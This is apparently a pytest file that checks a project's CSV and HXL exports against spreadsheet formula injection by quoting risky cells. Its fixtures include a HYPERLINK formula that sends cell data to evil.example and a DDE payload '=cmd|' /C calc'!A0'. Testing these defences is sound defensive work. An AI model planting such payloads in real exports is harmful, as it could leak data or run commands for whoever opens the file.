"""Issue 18 item 7: spreadsheet formula injection. Text such as `=HYPERLINK(...)`,
`=1+1` or `@SUM(1)` came out verbatim in the CSV and HXL exports. Every CSV surgeops
writes now goes through one writer (services/spreadsheet.py) that puts a single quote
before a text cell starting with = + - @, a tab or a carriage return, as OWASP
recommends; numbers are left alone, and an import takes the quote off again."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from builders import make_facility, mangystau
from surgeops.cli.main import build_app
from surgeops.services import audit
from surgeops.services.audit import Actor
from surgeops.services.spreadsheet import read_cell, safe_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1",
           "'=1+1", "''@x"]
HARMLESS = ["Aktau", "1+1", "#hashtag", "", "'quoted", "a=b"]
DATA = Path(__file__).resolve().parents[1] / "data" / "forecast" / "first_date_share08_mitigation_after.json"


def _hostile_facilities(session) -> None:  # noqa: ANN001
    mangystau(session)
    for i, name in enumerate(HOSTILE):
        make_facility(session, key=f"f{i}", names={"en": f"Hospital {i}", "ru": name}, lat=-33.5, lon=-70.25)


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _no_formula(cells: list[str]) -> None:
    for cell in cells:
        assert cell[:1] not in ("=", "+", "@", "\t", "\r") and not (cell[:1] == "-" and not _number(cell)), cell


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_could_start_a_formula_is_quoted_and_read_back(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert read_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", [*HARMLESS, -5, -0.5, 3, None])
def test_other_values_and_numbers_are_left_alone(value) -> None:  # noqa: ANN001
    assert safe_cell(value) == value
    if isinstance(value, str):
        assert read_cell(value) == value


def test_the_hxl_export_quotes_hostile_names_and_keeps_negative_numbers(raw_client: TestClient, session) -> None:  # noqa: ANN001
    _hostile_facilities(session)
    response = raw_client.get("/api/exports/facilities.hxl.csv")
    assert response.status_code == 200
    rows = _rows(response.text)
    header = rows[0]
    for row in rows[2:]:
        _no_formula(row)
        record = dict(zip(header, row))
        assert record["lat"] == "-33.5" and record["lon"] == "-70.25"  # numbers, not text: no quote
    names = {dict(zip(header, r))["names.ru"] for r in rows[2:]}
    assert names == {"'" + name.strip() for name in HOSTILE}  # names are stripped as they are stored


def test_the_hxl_export_imports_back_unchanged(raw_client: TestClient, session, db) -> None:  # noqa: ANN001
    _hostile_facilities(session)
    exported = raw_client.get("/api/exports/facilities.hxl.csv").text
    for i in range(len(HOSTILE)):
        assert raw_client.delete(f"/api/facilities/f{i}", headers={"If-Match": '"1"'}).status_code == 204
    imported = raw_client.post("/api/imports/facilities.hxl.csv", content=exported.encode(), headers={"Content-Type": "text/csv"})
    assert imported.status_code == 200, imported.text
    stored = {raw_client.get(f"/api/facilities/f{i}").json()["names"]["ru"] for i in range(len(HOSTILE))}
    assert stored == {name.strip() for name in HOSTILE}  # names are stripped as any name is


def test_the_plain_csv_export_quotes_them_too(settings, session, tmp_path: Path) -> None:  # noqa: ANN001
    _hostile_facilities(session)
    out = tmp_path / "facilities.csv"
    result = CliRunner().invoke(build_app(), ["--database-url", settings.database_url, "export", "facilities", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = _rows(out.read_text(encoding="utf-8"))
    for row in rows[1:]:
        _no_formula(row)
    names = [json.loads(dict(zip(rows[0], r))["names"])["ru"] for r in rows[1:]]
    assert sorted(names) == sorted(name.strip() for name in HOSTILE)  # inside a JSON cell: text starting with {


def test_the_audit_export_quotes_hostile_cells(raw_client: TestClient, session) -> None:  # noqa: ANN001
    audit.record(session, actor=Actor("=cmd|' /C calc'!A0", "@127.0.0.1"), action="-update", entity="+facility",
                 entity_id="=1+1", before=None, after={"x": 1})
    session.commit()
    rows = _rows(raw_client.get("/api/audit/export.csv").text)
    assert rows[1][2:7] == ["'=cmd|' /C calc'!A0", "'@127.0.0.1", "'-update", "'+facility", "'=1+1"]
    _no_formula(rows[1])


def test_the_forecast_csv_quotes_a_hostile_id_and_keeps_numbers(tmp_path: Path) -> None:
    params = json.loads(DATA.read_text())
    path = tmp_path / "sets.jsonl"
    path.write_text(json.dumps({"id": "=1+1", **params}) + "\n")
    result = CliRunner().invoke(build_app(), ["forecast", "--params", str(path), "--csv"])
    assert result.exit_code == 0, result.output
    rows = _rows(result.stdout)
    assert {r[0] for r in rows[1:]} == {"'=1+1"}
    assert all(_number(cell) for r in rows[1:] for cell in r[1:])
